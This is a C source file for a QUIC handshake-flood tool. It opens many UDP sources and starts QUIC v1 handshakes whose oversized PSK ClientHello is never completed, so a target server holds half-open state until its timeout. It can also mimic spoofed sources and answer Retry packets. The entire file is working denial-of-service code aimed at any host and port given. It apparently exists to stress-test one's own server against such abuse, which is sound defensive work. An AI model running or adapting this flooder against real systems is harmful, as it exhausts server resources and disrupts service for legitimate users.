/*
 * quic-flood: what a stranger without the key can do to a QUIC door. From
 * N UDP sockets it starts handshakes that never finish: each sends the
 * first datagram of a real QUIC v1 Initial whose ClientHello (its PSK
 * identity made long) needs a second datagram that never comes, so the
 * server waits for the rest until its handshake timeout. With --spread each
 * socket has a loopback address of its own that nobody answers on, as
 * spoofed sources look to the server; with --follow-retry a source answers
 * a Retry as a real client at that address would, and goes on no further.
 *
 *   quic-flood HOST:PORT [--sources N] [--spread] [--interval MS]
 *              [--seconds S] [--follow-retry]
 *
 * Prints one line when the time is up or it is told to stop (SIGTERM):
 * initials sent, retries seen and answered, other packets.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <gnutls/crypto.h>
#include <gnutls/gnutls.h>
#include <netdb.h>
#include <ngtcp2/ngtcp2.h>
#include <ngtcp2/ngtcp2_crypto.h>
#include <ngtcp2/ngtcp2_crypto_gnutls.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define MAX_SOURCES 1024
#define IDENTITY_LEN 3000 /* a ClientHello that takes three datagrams */

struct source {
	int fd;
	struct sockaddr_in local;
	ngtcp2_conn *conn;
	gnutls_session_t tls;
	ngtcp2_crypto_conn_ref ref;
	bool answered; /* its Retry was answered: it is done */
};

static struct {
	struct sockaddr_in server;
	gnutls_psk_client_credentials_t psk;
	uint64_t initials, retries, answered, other;
} flood;

static volatile sig_atomic_t stop;

static void handle_stop(int sig)
{
	stop = 1;
}

static uint64_t now_ns(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * NGTCP2_SECONDS + (uint64_t)ts.tv_nsec;
}

static void rand_cb(uint8_t *dest, size_t len, const ngtcp2_rand_ctx *ctx)
{
	(void)ctx;
	gnutls_rnd(GNUTLS_RND_NONCE, dest, len);
}

static int new_cid_cb(ngtcp2_conn *conn, ngtcp2_cid *cid, uint8_t *token, size_t cidlen,
	void *user_data)
{
	gnutls_rnd(GNUTLS_RND_NONCE, cid->data, cidlen);
	cid->datalen = cidlen;
	gnutls_rnd(GNUTLS_RND_NONCE, token, NGTCP2_STATELESS_RESET_TOKENLEN);
	return 0;
}

static ngtcp2_conn *get_conn(ngtcp2_crypto_conn_ref *ref)
{
	struct source *s = ref->user_data;
	return s->conn;
}

static void drop(struct source *s)
{
	if (s->conn) {
		ngtcp2_conn_del(s->conn);
	}
	if (s->tls) {
		gnutls_deinit(s->tls);
	}
	s->conn = NULL;
	s->tls = NULL;
}

/* Sends the first datagram QUIC makes now: the start of an Initial. */
static void send_first(struct source *s)
{
	uint8_t buf[1500];
	ngtcp2_path_storage ps;
	ngtcp2_path_storage_zero(&ps);
	ngtcp2_pkt_info pi;
	ngtcp2_ssize n = ngtcp2_conn_write_pkt(s->conn, &ps.path, &pi, buf, sizeof(buf), now_ns());
	if (n > 0 &&
		sendto(s->fd, buf, (size_t)n, 0, (struct sockaddr *)&flood.server,
			sizeof(flood.server)) == n) {
		flood.initials++;
	}
}

static bool start(struct source *s)
{
	drop(s);
	s->answered = false;
	ngtcp2_cid dcid, scid;
	dcid.datalen = 16;
	scid.datalen = 8;
	gnutls_rnd(GNUTLS_RND_NONCE, dcid.data, dcid.datalen);
	gnutls_rnd(GNUTLS_RND_NONCE, scid.data, scid.datalen);
	ngtcp2_settings settings;
	ngtcp2_settings_default(&settings);
	settings.initial_ts = now_ns();
	ngtcp2_transport_params params;
	ngtcp2_transport_params_default(&params);
	params.initial_max_streams_bidi = 1;
	ngtcp2_callbacks cb = {
		.client_initial = ngtcp2_crypto_client_initial_cb,
		.recv_crypto_data = ngtcp2_crypto_recv_crypto_data_cb,
		.encrypt = ngtcp2_crypto_encrypt_cb,
		.decrypt = ngtcp2_crypto_decrypt_cb,
		.hp_mask = ngtcp2_crypto_hp_mask_cb,
		.recv_retry = ngtcp2_crypto_recv_retry_cb,
		.rand = rand_cb,
		.get_new_connection_id = new_cid_cb,
		.update_key = ngtcp2_crypto_update_key_cb,
		.delete_crypto_aead_ctx = ngtcp2_crypto_delete_crypto_aead_ctx_cb,
		.delete_crypto_cipher_ctx = ngtcp2_crypto_delete_crypto_cipher_ctx_cb,
		.get_path_challenge_data = ngtcp2_crypto_get_path_challenge_data_cb,
		.version_negotiation = ngtcp2_crypto_version_negotiation_cb,
	};
	ngtcp2_path path = {{(struct sockaddr *)&s->local, sizeof(s->local)},
		{(struct sockaddr *)&flood.server, sizeof(flood.server)}, NULL};
	if (ngtcp2_conn_client_new(&s->conn, &dcid, &scid, &path, NGTCP2_PROTO_VER_V1, &cb,
		    &settings, &params, NULL, s) != 0 ||
		gnutls_init(&s->tls, GNUTLS_CLIENT | GNUTLS_NO_END_OF_EARLY_DATA) != 0 ||
		ngtcp2_crypto_gnutls_configure_client_session(s->tls) != 0 ||
		gnutls_priority_set_direct(s->tls,
			"NORMAL:-VERS-ALL:+VERS-TLS1.3:-KX-ALL:+ECDHE-PSK:"
			"%DISABLE_TLS13_COMPAT_MODE",
			NULL) != 0 ||
		gnutls_credentials_set(s->tls, GNUTLS_CRD_PSK, flood.psk) != 0) {
		fprintf(stderr, "quic-flood: cannot make a handshake\n");
		drop(s);
		return false;
	}
	s->ref.get_conn = get_conn;
	s->ref.user_data = s;
	gnutls_session_set_ptr(s->tls, &s->ref);
	const gnutls_datum_t alpn = {(unsigned char *)"rcomp/1", 7};
	gnutls_alpn_set_protocols(s->tls, &alpn, 1, GNUTLS_ALPN_MANDATORY);
	ngtcp2_conn_set_tls_native_handle(s->conn, s->tls);
	send_first(s);
	return true;
}

/* What the server sent a source: a Retry is answered (--follow-retry)
 * with the first datagram of the Initial that carries its token. */
static void receive(struct source *s, bool follow)
{
	uint8_t buf[65536];
	for (;;) {
		ssize_t n = recv(s->fd, buf, sizeof(buf), MSG_DONTWAIT);
		if (n <= 0) {
			return;
		}
		/* A long header whose type bits say Retry (QUIC v1). */
		bool retry = (buf[0] & 0x80) && ((buf[0] >> 4) & 3) == 3;
		if (!retry) {
			flood.other++;
			continue;
		}
		flood.retries++;
		if (!follow || !s->conn || s->answered) {
			continue;
		}
		ngtcp2_path path = {{(struct sockaddr *)&s->local, sizeof(s->local)},
			{(struct sockaddr *)&flood.server, sizeof(flood.server)}, NULL};
		ngtcp2_pkt_info pi = {0};
		if (ngtcp2_conn_read_pkt(s->conn, &path, &pi, buf, (size_t)n, now_ns()) == 0) {
			s->answered = true;
			flood.answered++;
			send_first(s);
		}
	}
}

static bool open_source(struct source *s, int i, bool spread)
{
	s->fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	s->local = (struct sockaddr_in){.sin_family = AF_INET};
	s->local.sin_addr.s_addr =
		spread ? htonl(0x7f4d0000u | (uint32_t)(i + 1)) : htonl(INADDR_LOOPBACK);
	socklen_t len = sizeof(s->local);
	if (s->fd < 0 || bind(s->fd, (struct sockaddr *)&s->local, sizeof(s->local)) < 0 ||
		getsockname(s->fd, (struct sockaddr *)&s->local, &len) < 0) {
		fprintf(stderr, "quic-flood: cannot open source %d: %s\n", i, strerror(errno));
		return false;
	}
	return true;
}

static bool resolve(const char *spec)
{
	char host[256];
	const char *colon = strrchr(spec, ':');
	if (!colon || (size_t)(colon - spec) >= sizeof(host)) {
		return false;
	}
	memcpy(host, spec, (size_t)(colon - spec));
	host[colon - spec] = '\0';
	struct addrinfo hints = {.ai_family = AF_INET, .ai_socktype = SOCK_DGRAM}, *res;
	if (getaddrinfo(host, colon + 1, &hints, &res) != 0) {
		return false;
	}
	memcpy(&flood.server, res->ai_addr, sizeof(flood.server));
	freeaddrinfo(res);
	return true;
}

int main(int argc, char **argv)
{
	int nsources = 16, interval_ms = 500;
	double seconds = 10;
	bool spread = false, follow = false;
	const char *target = NULL;
	for (int i = 1; i < argc; i++) {
		if (!strcmp(argv[i], "--sources") && i + 1 < argc) {
			nsources = atoi(argv[++i]);
		} else if (!strcmp(argv[i], "--interval") && i + 1 < argc) {
			interval_ms = atoi(argv[++i]);
		} else if (!strcmp(argv[i], "--seconds") && i + 1 < argc) {
			seconds = atof(argv[++i]);
		} else if (!strcmp(argv[i], "--spread")) {
			spread = true;
		} else if (!strcmp(argv[i], "--follow-retry")) {
			follow = true;
		} else if (!target) {
			target = argv[i];
		} else {
			target = NULL;
			break;
		}
	}
	if (!target || nsources < 1 || nsources > MAX_SOURCES || interval_ms < 1 ||
		!resolve(target)) {
		fprintf(stderr,
			"usage: quic-flood HOST:PORT [--sources N] [--spread] "
			"[--interval MS] [--seconds S] [--follow-retry]\n");
		return 2;
	}
	static char identity[IDENTITY_LEN];
	memset(identity, 'x', sizeof(identity));
	uint8_t wrong[32];
	gnutls_rnd(GNUTLS_RND_NONCE, wrong, sizeof(wrong));
	gnutls_datum_t user = {(unsigned char *)identity, sizeof(identity)};
	gnutls_datum_t key = {wrong, sizeof(wrong)};
	if (gnutls_psk_allocate_client_credentials(&flood.psk) != 0 ||
		gnutls_psk_set_client_credentials2(flood.psk, &user, &key, GNUTLS_PSK_KEY_RAW) !=
			0) {
		fprintf(stderr, "quic-flood: GnuTLS refused the credentials\n");
		return 1;
	}
	static struct source sources[MAX_SOURCES];
	for (int i = 0; i < nsources; i++) {
		if (!open_source(&sources[i], i, spread)) {
			return 1;
		}
	}
	uint64_t end = now_ns() + (uint64_t)(seconds * NGTCP2_SECONDS);
	uint64_t next = now_ns();
	struct pollfd pfd[MAX_SOURCES];
	signal(SIGTERM, handle_stop);
	signal(SIGINT, handle_stop);
	while (now_ns() < end && !stop) {
		if (now_ns() >= next) {
			/* Spread over the interval, each source in turn. */
			for (int i = 0; i < nsources; i++) {
				start(&sources[i]);
			}
			next += (uint64_t)interval_ms * NGTCP2_MILLISECONDS;
		}
		for (int i = 0; i < nsources; i++) {
			pfd[i] = (struct pollfd){.fd = sources[i].fd, .events = POLLIN};
		}
		uint64_t now = now_ns();
		int wait = next > now ? (int)((next - now) / NGTCP2_MILLISECONDS) : 0;
		if (poll(pfd, (nfds_t)nsources, wait > 100 ? 100 : wait) > 0) {
			for (int i = 0; i < nsources; i++) {
				if (pfd[i].revents & POLLIN) {
					receive(&sources[i], follow);
				}
			}
		}
	}
	for (int i = 0; i < nsources; i++) {
		drop(&sources[i]);
		close(sources[i].fd);
	}
	gnutls_psk_free_client_credentials(flood.psk);
	printf("%llu initials, %llu retries, %llu answered, %llu other\n",
		(unsigned long long)flood.initials, (unsigned long long)flood.retries,
		(unsigned long long)flood.answered, (unsigned long long)flood.other);
	return 0;
}
